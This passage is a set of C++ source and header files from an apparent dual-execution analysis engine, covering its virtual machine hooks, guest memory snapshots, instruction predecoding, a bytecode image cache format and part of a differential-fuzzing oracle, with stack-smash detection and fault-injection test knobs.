            it->second = next;
            contexts_[static_cast<std::size_t>(next)]->state =
                Context::State::Runnable;
        }
        out.ret = 0;
        return true;
      }
      default:
        panic("doLocalSyscall on non-local syscall");
    }
}

MachineStats
Machine::stats() const
{
    MachineStats s;
    s.instructions = totalInstrs_;
    s.syscalls = totalSyscalls_;
    s.barriers = totalBarriers_;
    auto op = [&](ir::Opcode o) {
        return opCounts_[static_cast<std::size_t>(o)];
    };
    s.mixData = op(ir::Opcode::Const) + op(ir::Opcode::Move);
    s.mixAlu = op(ir::Opcode::Add) + op(ir::Opcode::Sub) +
               op(ir::Opcode::Mul) + op(ir::Opcode::Div) +
               op(ir::Opcode::Rem) + op(ir::Opcode::And) +
               op(ir::Opcode::Or) + op(ir::Opcode::Xor) +
               op(ir::Opcode::Shl) + op(ir::Opcode::Shr) +
               op(ir::Opcode::Neg) + op(ir::Opcode::Not) +
               op(ir::Opcode::CmpEq) + op(ir::Opcode::CmpNe) +
               op(ir::Opcode::CmpLt) + op(ir::Opcode::CmpLe) +
               op(ir::Opcode::CmpGt) + op(ir::Opcode::CmpGe);
    s.mixMem = op(ir::Opcode::Load) + op(ir::Opcode::Store) +
               op(ir::Opcode::Alloca) + op(ir::Opcode::GlobalAddr);
    s.mixCall = op(ir::Opcode::Call) + op(ir::Opcode::ICall) +
                op(ir::Opcode::FnAddr) + op(ir::Opcode::LibCall) +
                op(ir::Opcode::Ret);
    s.mixBranch = op(ir::Opcode::Br) + op(ir::Opcode::CondBr);
    s.mixSyscall = op(ir::Opcode::Syscall);
    s.mixCounter = op(ir::Opcode::CntAdd) + op(ir::Opcode::SyncBarrier) +
                   op(ir::Opcode::CntPush) + op(ir::Opcode::CntPop);
    double sum = 0.0;
    std::uint64_t samples = 0;
    for (const auto &ctx : contexts_) {
        s.maxCnt = std::max(s.maxCnt, ctx->maxCnt);
        s.maxCntDepth = std::max(s.maxCntDepth, ctx->maxCntDepth);
        sum += ctx->cntSum;
        samples += ctx->cntSamples;
    }
    s.avgCnt = samples ? sum / static_cast<double>(samples) : 0.0;
    return s;
}

} // namespace ldx::vm
