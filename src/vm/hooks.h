/**
 * @file
 * Observation and interception points of the virtual machine.
 *
 *  - SyscallPort: intercepts every syscall and loop barrier. The
 *    dual-execution controllers live behind this interface; the
 *    default port just executes against the kernel.
 *  - ExecHook: per-instruction dataflow callbacks used by the
 *    instruction-level taint trackers (LIBDFT / TaintGrind models)
 *    and by the execution-indexing cost baseline.
 *  - SinkHook: VM-level sink events — return-token values at returns
 *    and allocation sizes at malloc — the paper's sinks for the
 *    vulnerable program set (§8, Table 3).
 */
#pragma once

#include <cstdint>
#include <vector>

#include "ir/ir.h"
#include "os/kernel.h"

namespace ldx::vm {

class Machine;

/** One syscall about to be issued by a context. */
struct SyscallRequest
{
    int tid = 0;
    std::int64_t sysNo = 0;
    std::vector<std::int64_t> args;
    int site = -1;          ///< static site id (instrumented modules)
    std::int64_t cnt = 0;   ///< alignment counter at the call
    ir::SourceLoc loc;
};

/** Port replies: proceed with @p out, or retry later. */
enum class PortReply
{
    Done,
    Blocked,
};

/** Syscall / barrier interception point. */
class SyscallPort
{
  public:
    virtual ~SyscallPort() = default;

    /**
     * Handle @p req. On Done, @p out carries the outcome the guest
     * sees. On Blocked, the context stays at the syscall and the
     * request is re-issued on its next scheduled step.
     */
    virtual PortReply onSyscall(const SyscallRequest &req, Machine &vm,
                                os::Outcome &out) = 0;

    /**
     * Loop-backedge rendezvous (§5). @p iter counts completed
     * executions of this barrier site by this context; @p reset_delta
     * is the counter adjustment the VM applies after the barrier
     * passes (so the port can publish the post-reset position).
     */
    virtual PortReply onBarrier(int tid, std::int64_t site,
                                std::int64_t iter, std::int64_t cnt,
                                std::int64_t reset_delta,
                                Machine &vm) = 0;

    /**
     * Counter stack push at an indirect/recursive call (§6): the
     * thread's alignment counter @p saved is pushed and the counter
     * resets to 0.
     */
    virtual void
    onCounterPush(int tid, std::int64_t saved, Machine &vm)
    {
        (void)tid; (void)saved; (void)vm;
    }

    /** Counter stack pop: the counter is restored to @p restored. */
    virtual void
    onCounterPop(int tid, std::int64_t restored, Machine &vm)
    {
        (void)tid; (void)restored; (void)vm;
    }

    /** Context @p tid completed (its frames unwound). */
    virtual void onThreadDone(int tid, Machine &vm) { (void)tid; (void)vm; }

    /** The machine finished (normally or by trap). */
    virtual void onFinished(Machine &vm) { (void)vm; }
};

/** Per-instruction dataflow callbacks (taint trackers). */
class ExecHook
{
  public:
    virtual ~ExecHook() = default;

    /**
     * Called after each non-control instruction executes.
     * @param tid       executing context
     * @param instr     the instruction
     * @param addr      effective address (Load/Store/Alloca/LibCall dst)
     * @param value     value written to the destination register
     */
    virtual void onInstr(int tid, const ir::Instr &instr,
                         std::uint64_t addr, std::int64_t value,
                         Machine &vm) = 0;

    /**
     * Entering @p callee; @p args are evaluated argument values and
     * @p call_instr is the Call/ICall instruction (so taint trackers
     * can read the argument operands' shadow state).
     */
    virtual void onCall(int tid, const ir::Instr &call_instr, int callee,
                        const std::vector<std::int64_t> &args,
                        Machine &vm) = 0;

    /**
     * Returning from the current frame into the caller. @p ret_instr
     * is the Ret instruction and @p ret_reg the caller register
     * receiving the value (-1 when discarded or frame-less).
     */
    virtual void onRet(int tid, const ir::Instr &ret_instr, int ret_reg,
                       std::int64_t ret_value, Machine &vm) = 0;

    /**
     * A conditional branch executed. @p taken is the chosen block id.
     * Used by control-dependence-augmented taint tracking.
     */
    virtual void
    onBranch(int tid, const ir::Instr &instr, int taken, Machine &vm)
    {
        (void)tid; (void)instr; (void)taken; (void)vm;
    }

    /** A block boundary was crossed into @p block of function @p fn. */
    virtual void
    onBlockEnter(int tid, int fn, int block, Machine &vm)
    {
        (void)tid; (void)fn; (void)block; (void)vm;
    }

    /** A syscall completed with @p out visible to the guest. */
    virtual void onSyscall(const SyscallRequest &req,
                           const os::Outcome &out, Machine &vm) = 0;
};

/** VM-level sink events (vulnerable program set). */
class SinkHook
{
  public:
    virtual ~SinkHook() = default;

    /**
     * Return token loaded from the guest stack at a ret. @p expected
     * is the token written at call time; a mismatch means the guest
     * overwrote its own return slot (stack smash).
     */
    virtual void onRetToken(int tid, std::uint64_t token_addr,
                            std::int64_t token, std::int64_t expected,
                            Machine &vm) = 0;

    /** Size argument of a malloc library call. */
    virtual void onAllocSize(int tid, std::int64_t size, Machine &vm) = 0;
};

} // namespace ldx::vm
