/**
 * @file
 * Flat segmented guest memory. Three segments: globals, per-thread
 * stacks, and a bump-allocated heap whose base carries a per-execution
 * jitter (heap nondeterminism the paper discusses under Limitations).
 *
 * The guest stack holds real return tokens written at call time, so
 * MiniC buffer overflows can clobber them exactly like native stack
 * smashing — this is what the vulnerable-program experiments rely on.
 */
#pragma once

#include <cstdint>
#include <stdexcept>
#include <string>
#include <vector>

#include "os/memaccess.h"

namespace ldx::vm {

/** Guest-visible fault kinds. */
enum class TrapKind
{
    MemoryFault,
    DivideByZero,
    BadIndirectCall,
    ControlHijack,   ///< corrupted return token detected at ret
    StackOverflow,
    BudgetExceeded,  ///< instruction budget exhausted
    BadSyscall,
};

/** Name of a trap kind. */
const char *trapKindName(TrapKind kind);

/** Thrown by the machine on guest faults. */
class VmTrap : public std::runtime_error
{
  public:
    VmTrap(TrapKind kind, const std::string &msg)
        : std::runtime_error(msg), kind_(kind)
    {}

    TrapKind kind() const { return kind_; }

  private:
    TrapKind kind_;
};

/** Segmented guest memory. */
class Memory : public os::MemAccess
{
  public:
    static constexpr std::uint64_t kGlobalsBase = 0x10000;
    static constexpr std::uint64_t kStackBase = 0x01000000;
    static constexpr std::uint64_t kHeapBase = 0x40000000;

    /**
     * @param globals_size  bytes of global storage
     * @param stack_size    bytes of stack per thread
     * @param max_threads   number of per-thread stack slots
     * @param heap_jitter   added to the heap base (nondeterminism)
     */
    Memory(std::uint64_t globals_size, std::uint64_t stack_size,
           int max_threads, std::uint64_t heap_jitter);

    // -- Typed accessors. --
    std::uint8_t readU8(std::uint64_t addr) const;
    void writeU8(std::uint64_t addr, std::uint8_t v);
    std::int64_t readI64(std::uint64_t addr) const;
    void writeI64(std::uint64_t addr, std::int64_t v);

    // -- os::MemAccess. --
    std::string readBytes(std::uint64_t addr,
                          std::uint64_t n) const override;
    void writeBytes(std::uint64_t addr, const std::string &data) override;
    std::string readCString(std::uint64_t addr,
                            std::uint64_t max_len = 4096) const override;

    /** Bump-allocate @p n heap bytes (8-aligned). */
    std::uint64_t heapAlloc(std::uint64_t n);

    /** Top (highest address, exclusive) of thread @p tid's stack. */
    std::uint64_t stackTop(int tid) const;

    /** Lowest valid address of thread @p tid's stack. */
    std::uint64_t stackFloor(int tid) const;

    std::uint64_t stackSize() const { return stackSize_; }
    std::uint64_t heapBase() const { return heapBase_; }

  private:
    /** Map @p addr to backing byte; throws VmTrap on bad addresses. */
    std::uint8_t *resolve(std::uint64_t addr) const;

    std::uint64_t globalsSize_;
    std::uint64_t stackSize_;
    int maxThreads_;
    std::uint64_t heapBase_;
    std::uint64_t heapBrk_;

    mutable std::vector<std::uint8_t> globals_;
    mutable std::vector<std::uint8_t> stacks_;
    mutable std::vector<std::uint8_t> heap_;
};

} // namespace ldx::vm
