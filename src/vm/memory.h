/**
 * @file
 * Flat segmented guest memory. Three segments: globals, per-thread
 * stacks, and a bump-allocated heap whose base carries a per-execution
 * jitter (heap nondeterminism the paper discusses under Limitations).
 *
 * The guest stack holds real return tokens written at call time, so
 * MiniC buffer overflows can clobber them exactly like native stack
 * smashing — this is what the vulnerable-program experiments rely on.
 */
#pragma once

#include <cstdint>
#include <memory>
#include <stdexcept>
#include <string>
#include <vector>

#include "os/memaccess.h"

namespace ldx::vm {

/** Guest-visible fault kinds. */
enum class TrapKind
{
    MemoryFault,
    DivideByZero,
    BadIndirectCall,
    ControlHijack,   ///< corrupted return token detected at ret
    StackOverflow,
    BudgetExceeded,  ///< instruction budget exhausted
    BadSyscall,
};

/** Name of a trap kind. */
const char *trapKindName(TrapKind kind);

/** Thrown by the machine on guest faults. */
class VmTrap : public std::runtime_error
{
  public:
    VmTrap(TrapKind kind, const std::string &msg)
        : std::runtime_error(msg), kind_(kind)
    {}

    TrapKind kind() const { return kind_; }

  private:
    TrapKind kind_;
};

/**
 * An arena checkpoint of every guest segment: the immutable image a
 * Memory::snapshot() produces and restore() consumes. One image is
 * shared (by shared_ptr) across every execution forked from the same
 * snapshot; execution itself keeps running on the flat segment
 * vectors, so the hot interpreter path pays nothing for the
 * versioning.
 */
struct MemoryImage
{
    std::vector<std::uint8_t> globals;
    std::vector<std::uint8_t> stacks;
    std::vector<std::uint8_t> heap;
    std::uint64_t heapBrk = 0;
};

/** Segmented guest memory. */
class Memory : public os::MemAccess
{
  public:
    static constexpr std::uint64_t kGlobalsBase = 0x10000;
    static constexpr std::uint64_t kStackBase = 0x01000000;
    static constexpr std::uint64_t kHeapBase = 0x40000000;

    /** Page granularity of restore()'s fault-injection knob. */
    static constexpr std::uint64_t kSnapshotPageSize = 4096;

    /**
     * @param globals_size  bytes of global storage
     * @param stack_size    bytes of stack per thread
     * @param max_threads   number of per-thread stack slots
     * @param heap_jitter   added to the heap base (nondeterminism)
     */
    Memory(std::uint64_t globals_size, std::uint64_t stack_size,
           int max_threads, std::uint64_t heap_jitter);

    // -- Typed accessors. --
    std::uint8_t readU8(std::uint64_t addr) const;
    void writeU8(std::uint64_t addr, std::uint8_t v);
    std::int64_t readI64(std::uint64_t addr) const;
    void writeI64(std::uint64_t addr, std::int64_t v);

    // -- os::MemAccess. --
    std::string readBytes(std::uint64_t addr,
                          std::uint64_t n) const override;
    void writeBytes(std::uint64_t addr, const std::string &data) override;
    std::string readCString(std::uint64_t addr,
                            std::uint64_t max_len = 4096) const override;

    /** Bump-allocate @p n heap bytes (8-aligned). */
    std::uint64_t heapAlloc(std::uint64_t n);

    /**
     * Checkpoint every segment into an immutable arena image. The
     * image is cheap to share: forks restored from the same snapshot
     * all alias one copy.
     */
    std::shared_ptr<const MemoryImage> snapshot() const;

    /**
     * Overwrite every segment from @p image (the layout — sizes,
     * heap base jitter — must match the construction parameters, as
     * it does when the image came from a same-configured Machine).
     * Bumps the memory version.
     *
     * @p chaos_drop_page is the stale-snapshot fault injector: when
     * non-zero, restore skips copying the Nth *dirty*
     * kSnapshotPageSize page (one whose current bytes differ from the
     * image, counted 1-based across globals+stacks+heap), leaving
     * whatever bytes the segment already held — exactly the "fork
     * that misses one dirtied COW page" bug the fuzz harness must
     * catch. With fewer than N dirty pages the injection is a no-op.
     */
    void restore(const MemoryImage &image,
                 std::uint64_t chaos_drop_page = 0);

    /** Restores performed on this memory (0 = never restored). */
    std::uint64_t version() const { return version_; }

    /** Top (highest address, exclusive) of thread @p tid's stack. */
    std::uint64_t stackTop(int tid) const;

    /** Lowest valid address of thread @p tid's stack. */
    std::uint64_t stackFloor(int tid) const;

    std::uint64_t stackSize() const { return stackSize_; }
    std::uint64_t heapBase() const { return heapBase_; }

  private:
    /** Map @p addr to backing byte; throws VmTrap on bad addresses. */
    std::uint8_t *resolve(std::uint64_t addr) const;

    std::uint64_t globalsSize_;
    std::uint64_t stackSize_;
    int maxThreads_;
    std::uint64_t heapBase_;
    std::uint64_t heapBrk_;
    std::uint64_t version_ = 0;

    mutable std::vector<std::uint8_t> globals_;
    mutable std::vector<std::uint8_t> stacks_;
    mutable std::vector<std::uint8_t> heap_;
};

} // namespace ldx::vm
