#include "vm/predecode.h"

#include <algorithm>
#include <array>

namespace ldx::vm {

bool
isSlowOpcode(ir::Opcode op)
{
    switch (op) {
      case ir::Opcode::Call:
      case ir::Opcode::ICall:
      case ir::Opcode::Ret:
      case ir::Opcode::Syscall:
      case ir::Opcode::SyncBarrier:
      case ir::Opcode::CntPush:
      case ir::Opcode::CntPop:
        return true;
      default:
        return false;
    }
}

namespace {

bool
isTerminatorOp(ir::Opcode op)
{
    return op == ir::Opcode::Br || op == ir::Opcode::CondBr ||
           op == ir::Opcode::Ret;
}

/** Classify @p operand into (flag, payload) form. */
void
encodeOperand(const ir::Operand &operand, std::uint8_t reg_flag,
              std::uint8_t &flags, std::int64_t &out)
{
    if (operand.isReg()) {
        flags |= reg_flag;
        out = operand.reg;
    } else if (operand.isImm()) {
        out = operand.imm;
    } else {
        out = 0; // eval() yields 0 for None
    }
}

} // namespace

std::uint8_t
fusedXop(ir::Opcode a, ir::Opcode b)
{
    if (b == ir::Opcode::CondBr) {
        switch (a) {
          case ir::Opcode::CmpEq: return kXopCmpEqCondBr;
          case ir::Opcode::CmpNe: return kXopCmpNeCondBr;
          case ir::Opcode::CmpLt: return kXopCmpLtCondBr;
          case ir::Opcode::CmpLe: return kXopCmpLeCondBr;
          case ir::Opcode::CmpGt: return kXopCmpGtCondBr;
          case ir::Opcode::CmpGe: return kXopCmpGeCondBr;
          default: return 0;
        }
    }
    if (a == ir::Opcode::CntAdd) {
        switch (b) {
          case ir::Opcode::Br: return kXopCntAddBr;
          case ir::Opcode::Const: return kXopCntAddConst;
          case ir::Opcode::Load: return kXopCntAddLoad;
          case ir::Opcode::Move: return kXopCntAddMove;
          default: return 0;
        }
    }
    if (a == ir::Opcode::Load && b == ir::Opcode::Add)
        return kXopLoadAdd;
    if (a == ir::Opcode::Add && b == ir::Opcode::Store)
        return kXopAddStore;
    if (a == ir::Opcode::Const && b == ir::Opcode::Store)
        return kXopConstStore;
    return 0;
}

DecodedFunction::DecodedFunction(const ir::Function &fn)
{
    std::size_t total = 0;
    blockStart_.resize(fn.numBlocks());
    for (std::size_t b = 0; b < fn.numBlocks(); ++b) {
        blockStart_[b] = static_cast<std::uint32_t>(total);
        total += fn.block(static_cast<int>(b)).instrs().size();
    }
    code_.reserve(total);

    for (std::size_t b = 0; b < fn.numBlocks(); ++b) {
        const auto &instrs = fn.block(static_cast<int>(b)).instrs();
        for (std::size_t i = 0; i < instrs.size(); ++i) {
            const ir::Instr &in = instrs[i];
            DecodedInstr d;
            d.op = in.op;
            d.dst = in.dst;
            d.size = static_cast<std::uint8_t>(in.size);
            d.block = static_cast<std::int32_t>(b);
            d.ip = static_cast<std::int32_t>(i);
            d.src = &in;
            if (isSlowOpcode(in.op))
                d.flags |= DecodedInstr::kSlow;
            if (isTerminatorOp(in.op))
                d.flags |= DecodedInstr::kTerm;
            encodeOperand(in.a, DecodedInstr::kAReg, d.flags, d.a);
            encodeOperand(in.b, DecodedInstr::kBReg, d.flags, d.b);
            switch (in.op) {
              case ir::Opcode::Alloca:
                // Pre-align the reservation like executeOne does.
                d.imm = static_cast<std::int64_t>(
                    (static_cast<std::uint64_t>(
                         std::max<std::int64_t>(8, in.imm)) + 7) &
                    ~std::uint64_t{7});
                break;
              case ir::Opcode::FnAddr:
                d.imm = in.callee;
                break;
              case ir::Opcode::Br:
                d.target0 = static_cast<std::int32_t>(
                    blockStart_[static_cast<std::size_t>(in.target0)]);
                break;
              case ir::Opcode::CondBr:
                d.target0 = static_cast<std::int32_t>(
                    blockStart_[static_cast<std::size_t>(in.target0)]);
                d.target1 = static_cast<std::int32_t>(
                    blockStart_[static_cast<std::size_t>(in.target1)]);
                break;
              default:
                d.imm = in.imm;
                break;
            }
            code_.push_back(d);
        }
    }

    // Chop each block into runs of fast instructions and attach a
    // retirement histogram to every canonical run head. runLen counts
    // the fast instructions from a given index to the end of its run,
    // so the interpreter can resume mid-run after a slice boundary.
    std::size_t pos = 0;
    while (pos < code_.size()) {
        if (code_[pos].isSlow()) {
            ++pos;
            continue;
        }
        std::size_t end = pos;
        int block = code_[pos].block;
        while (end < code_.size() && !code_[end].isSlow() &&
               code_[end].block == block &&
               end - pos < 0xffff)
            ++end;

        std::array<std::uint32_t,
                   static_cast<std::size_t>(ir::kNumOpcodes)>
            counts{};
        for (std::size_t i = pos; i < end; ++i)
            ++counts[static_cast<std::size_t>(code_[i].op)];
        RunHist hist;
        for (std::size_t o = 0; o < counts.size(); ++o) {
            if (counts[o])
                hist.emplace_back(static_cast<ir::Opcode>(o),
                                  counts[o]);
        }
        code_[pos].histIdx = static_cast<std::int32_t>(hists_.size());
        hists_.push_back(std::move(hist));
        for (std::size_t i = pos; i < end; ++i)
            code_[i].runLen = static_cast<std::uint16_t>(end - i);
        pos = end;
    }

    // Superinstruction marking: xop defaults to the base opcode; an
    // instruction with at least one fast same-run successor may carry
    // a fused id instead. runLen >= 2 guarantees the successor is in
    // the same block and never a branch target (branches only enter
    // at block starts), so the pair always executes back to back.
    for (std::size_t i = 0; i < code_.size(); ++i)
        code_[i].xop = static_cast<std::uint8_t>(code_[i].op);
    for (std::size_t i = 0; i + 1 < code_.size(); ++i) {
        if (code_[i].runLen < 2)
            continue;
        std::uint8_t f = fusedXop(code_[i].op, code_[i + 1].op);
        if (f)
            code_[i].xop = f;
    }
}

PredecodedModule::PredecodedModule(const ir::Module &module)
    : module_(module), fns_(module.numFunctions())
{}

void
PredecodedModule::decodeAll()
{
    for (std::size_t f = 0; f < fns_.size(); ++f) {
        if (!fns_[f])
            fns_[f] = std::make_unique<DecodedFunction>(
                module_.function(static_cast<int>(f)));
    }
}

bool
PredecodedModule::fullyDecoded() const
{
    for (const auto &slot : fns_)
        if (!slot)
            return false;
    return true;
}

obs::ProfileMeta
buildProfileMeta(PredecodedModule &pm, const std::string &program,
                 const std::string &source)
{
    obs::ProfileMeta meta;
    meta.program = program;
    meta.fns.resize(pm.numFunctions());
    for (std::size_t f = 0; f < pm.numFunctions(); ++f) {
        const DecodedFunction &df = pm.function(static_cast<int>(f));
        obs::FunctionMeta &fm = meta.fns[f];
        fm.name = pm.module().function(static_cast<int>(f)).name();
        fm.sites.resize(df.numInstrs());
        const DecodedInstr *code = df.code();
        for (std::size_t i = 0; i < df.numInstrs(); ++i) {
            obs::SiteMeta &sm = fm.sites[i];
            sm.op = ir::opcodeName(code[i].op);
            sm.line = code[i].src->loc.line;
            sm.col = code[i].src->loc.col;
            sm.siteId = code[i].src->site;
            sm.isSyscall = code[i].op == ir::Opcode::Syscall;
        }
    }
    std::size_t begin = 0;
    while (begin <= source.size() && !source.empty()) {
        std::size_t end = source.find('\n', begin);
        if (end == std::string::npos) {
            if (begin < source.size())
                meta.sourceLines.push_back(source.substr(begin));
            break;
        }
        meta.sourceLines.push_back(source.substr(begin, end - begin));
        begin = end + 1;
    }
    return meta;
}

} // namespace ldx::vm
