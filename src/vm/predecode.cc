#include "vm/predecode.h"

#include <algorithm>
#include <array>

namespace ldx::vm {

namespace {

bool
isSlowOp(ir::Opcode op)
{
    switch (op) {
      case ir::Opcode::Call:
      case ir::Opcode::ICall:
      case ir::Opcode::Ret:
      case ir::Opcode::Syscall:
      case ir::Opcode::SyncBarrier:
      case ir::Opcode::CntPush:
      case ir::Opcode::CntPop:
        return true;
      default:
        return false;
    }
}

bool
isTerminatorOp(ir::Opcode op)
{
    return op == ir::Opcode::Br || op == ir::Opcode::CondBr ||
           op == ir::Opcode::Ret;
}

/** Classify @p operand into (flag, payload) form. */
void
encodeOperand(const ir::Operand &operand, std::uint8_t reg_flag,
              std::uint8_t &flags, std::int64_t &out)
{
    if (operand.isReg()) {
        flags |= reg_flag;
        out = operand.reg;
    } else if (operand.isImm()) {
        out = operand.imm;
    } else {
        out = 0; // eval() yields 0 for None
    }
}

} // namespace

DecodedFunction::DecodedFunction(const ir::Function &fn)
{
    std::size_t total = 0;
    blockStart_.resize(fn.numBlocks());
    for (std::size_t b = 0; b < fn.numBlocks(); ++b) {
        blockStart_[b] = static_cast<std::uint32_t>(total);
        total += fn.block(static_cast<int>(b)).instrs().size();
    }
    code_.reserve(total);

    for (std::size_t b = 0; b < fn.numBlocks(); ++b) {
        const auto &instrs = fn.block(static_cast<int>(b)).instrs();
        for (std::size_t i = 0; i < instrs.size(); ++i) {
            const ir::Instr &in = instrs[i];
            DecodedInstr d;
            d.op = in.op;
            d.dst = in.dst;
            d.size = static_cast<std::uint8_t>(in.size);
            d.block = static_cast<std::int32_t>(b);
            d.ip = static_cast<std::int32_t>(i);
            d.src = &in;
            if (isSlowOp(in.op))
                d.flags |= DecodedInstr::kSlow;
            if (isTerminatorOp(in.op))
                d.flags |= DecodedInstr::kTerm;
            encodeOperand(in.a, DecodedInstr::kAReg, d.flags, d.a);
            encodeOperand(in.b, DecodedInstr::kBReg, d.flags, d.b);
            switch (in.op) {
              case ir::Opcode::Alloca:
                // Pre-align the reservation like executeOne does.
                d.imm = static_cast<std::int64_t>(
                    (static_cast<std::uint64_t>(
                         std::max<std::int64_t>(8, in.imm)) + 7) &
                    ~std::uint64_t{7});
                break;
              case ir::Opcode::FnAddr:
                d.imm = in.callee;
                break;
              case ir::Opcode::Br:
                d.target0 = static_cast<std::int32_t>(
                    blockStart_[static_cast<std::size_t>(in.target0)]);
                break;
              case ir::Opcode::CondBr:
                d.target0 = static_cast<std::int32_t>(
                    blockStart_[static_cast<std::size_t>(in.target0)]);
                d.target1 = static_cast<std::int32_t>(
                    blockStart_[static_cast<std::size_t>(in.target1)]);
                break;
              default:
                d.imm = in.imm;
                break;
            }
            code_.push_back(d);
        }
    }

    // Chop each block into runs of fast instructions and attach a
    // retirement histogram to every canonical run head. runLen counts
    // the fast instructions from a given index to the end of its run,
    // so the interpreter can resume mid-run after a slice boundary.
    std::size_t pos = 0;
    while (pos < code_.size()) {
        if (code_[pos].isSlow()) {
            ++pos;
            continue;
        }
        std::size_t end = pos;
        int block = code_[pos].block;
        while (end < code_.size() && !code_[end].isSlow() &&
               code_[end].block == block &&
               end - pos < 0xffff)
            ++end;

        std::array<std::uint32_t,
                   static_cast<std::size_t>(ir::kNumOpcodes)>
            counts{};
        for (std::size_t i = pos; i < end; ++i)
            ++counts[static_cast<std::size_t>(code_[i].op)];
        RunHist hist;
        for (std::size_t o = 0; o < counts.size(); ++o) {
            if (counts[o])
                hist.emplace_back(static_cast<ir::Opcode>(o),
                                  counts[o]);
        }
        code_[pos].histIdx = static_cast<std::int32_t>(hists_.size());
        hists_.push_back(std::move(hist));
        for (std::size_t i = pos; i < end; ++i)
            code_[i].runLen = static_cast<std::uint16_t>(end - i);
        pos = end;
    }
}

PredecodedModule::PredecodedModule(const ir::Module &module)
    : module_(module), fns_(module.numFunctions())
{}

} // namespace ldx::vm
