/**
 * @file
 * Bytecode images: the `ldx-image-v1` on-disk format and its cache.
 *
 * An image is a little-endian snapshot of a compiled program — the
 * ir::Module plus the predecoded instruction streams (vm/predecode.h)
 * — so a warm start is one read plus pointer/index fixup: no lexing,
 * parsing, sema, codegen, or predecoding. The format is versioned and
 * self-checking; loadImage() treats ANY defect (truncation, bit
 * flips, wrong magic/version/endianness, out-of-range indices) as a
 * clean cache miss by returning nullopt, never by crashing.
 *
 * Layout (all multi-byte fields little endian):
 *
 *   magic        8 bytes  "LDXIMG01"
 *   endianTag    u32      0x01020304 (rejects byte-swapped writers)
 *   version      u32      1
 *   flags        u32      bit0 = counter-instrumented module
 *   reserved     u32      0
 *   contentHash  u64      cache key (fnv1a of source + variant tag)
 *   payloadHash  u64      fnv1a of header bytes [0,32) + the payload
 *   payloadSize  u64      length of the payload that follows
 *   payload      serialized module, then per-function decoded streams
 *
 * The payload hash catches corruption cheaply; the loader still
 * bounds-checks every index, re-runs ir::verifyModule on the
 * reconstructed module, and revalidates the superinstruction marks,
 * so even an adversarial image degrades to a miss.
 */
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <string>

#include "ir/ir.h"
#include "vm/predecode.h"

namespace ldx::vm {

/** Format constants (header fields above). */
inline constexpr char kImageMagic[8] = {'L', 'D', 'X', 'I',
                                        'M', 'G', '0', '1'};
inline constexpr std::uint32_t kImageEndianTag = 0x01020304;
inline constexpr std::uint32_t kImageVersion = 1;
inline constexpr std::uint32_t kImageFlagInstrumented = 1u << 0;

/** A deserialized image: the module and its ready-to-run streams. */
struct LoadedImage
{
    /** Owns the program; predecoded holds references into it. */
    std::unique_ptr<ir::Module> module;
    /** Fully decoded (decodeAll() invariant holds) and fused. */
    std::shared_ptr<PredecodedModule> predecoded;
    std::uint64_t contentHash = 0;
    bool instrumented = false;
};

/** Serialize @p module (with its predecoded streams) to image bytes. */
std::string serializeImage(const ir::Module &module, bool instrumented,
                           std::uint64_t content_hash);

/**
 * Deserialize image bytes. nullopt on any malformed input — the
 * caller falls back to the front end.
 */
std::optional<LoadedImage> loadImage(const std::string &bytes);

/** Cache key for @p source compiled with/without instrumentation. */
std::uint64_t imageKey(const std::string &source, bool instrumented);

/** Path of the cached image for @p key under @p dir. */
std::string imageCachePath(const std::string &dir, std::uint64_t key);

/**
 * Load the cached image for @p key from @p dir; nullopt on a miss
 * (absent file, stale key, or malformed bytes).
 */
std::optional<LoadedImage> probeImageCache(const std::string &dir,
                                           std::uint64_t key);

/**
 * Write @p module into the cache (atomically: temp file + rename).
 * Returns false on IO failure; the caller loses nothing but warmth.
 */
bool storeImageCache(const std::string &dir, std::uint64_t key,
                     const ir::Module &module, bool instrumented);

} // namespace ldx::vm
