/**
 * @file
 * fuzz::Oracle — the differential-testing harness of the fuzzing
 * subsystem (docs/FUZZING.md).
 *
 * For one seed the oracle compiles the generated program once and
 * executes it across the engine's config matrix
 *
 *     {LockstepDriver, ThreadedDriver}
 *   x {predecode, slow-path}
 *   x {flight recorder on, off}
 *   x {no mutation, N mutated sources}
 *
 * plus one native (non-dual) instrumented run per decode path, and
 * asserts the paper's invariants:
 *
 *  - native: the run finishes and the final counter equals
 *    FCNT(main) on both decode paths (the instrumentation
 *    invariant, Alg. 1);
 *  - clean cells: zero syscall diffs, zero findings, no deadlock —
 *    the coupling fully suppresses nondeterminism (zero false
 *    positives, §5);
 *  - mutated cells: termination without deadlock or trap;
 *  - cross-cell: every cell with the same mutation setting produces
 *    an identical result fingerprint (verdict, finding set, syscall
 *    diff/alignment counts, exits) regardless of driver, decode
 *    path, or recorder — the axes are observability/performance
 *    knobs and must not change semantics;
 *  - determinism: re-running a cell reproduces its fingerprint
 *    byte-for-byte.
 *
 * Violations carry the offending cell and a human-readable detail;
 * the first violating cell's DualResult (with its DivergenceReport)
 * is kept for artifact dumps.
 */
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "fuzz/generator.h"
#include "ldx/engine.h"
#include "ldx/report.h"

namespace ldx::fuzz {

/** One cell of the dual-execution config matrix. */
struct CellSpec
{
    bool threaded = false;  ///< ThreadedDriver vs LockstepDriver
    bool predecode = true;  ///< fast path vs seed interpreter
    bool recorder = true;   ///< flight recorder on/off
    bool mutate = false;    ///< mutated sources vs clean

    /** Stable slug, e.g. "threaded/fast/rec/mut". */
    std::string name() const;
};

/** Oracle configuration. */
struct OracleOptions
{
    GenOptions gen;

    /**
     * Mutated sources in mutated cells: 1 = /input.txt (offset
     * seed % 16), 2 adds the feed peer's responses, 3 adds the FUZZ
     * env var.
     */
    int mutationSources = 1;

    /** Full 16-cell matrix, or the 4-cell quick diagonal. */
    bool fullMatrix = true;

    /** Re-run one cell and require an identical fingerprint. */
    bool checkDeterminism = true;

    /** Per-cell wall-clock cap (seconds). */
    double cellWallCap = 30.0;

    /**
     * Per-side instruction budget. Generated programs retire a few
     * thousand instructions; the low cap turns a hypothetical
     * runaway candidate (shrinker) into a fast trap.
     */
    std::uint64_t maxInstructions = 50'000'000;

    /**
     * Fault-injection passthrough: skip every Nth CntAdd in both
     * sides' VMs (vm::MachineConfig::chaosSkipCntAddPeriod). Used to
     * prove the oracle catches a real engine bug (see
     * tests/fuzz_test.cc and `ldx fuzz --inject-skip-cnt`).
     */
    std::uint64_t chaosSkipCntAddPeriod = 0;

    /**
     * Fault-injection passthrough: drop the Nth dirty 4096-byte page
     * from every snapshot fork's slave-memory restore — the planted
     * stale-snapshot bug (vm::Memory::restore).
     * Used to prove the snapshot-equality oracle catches a fork that
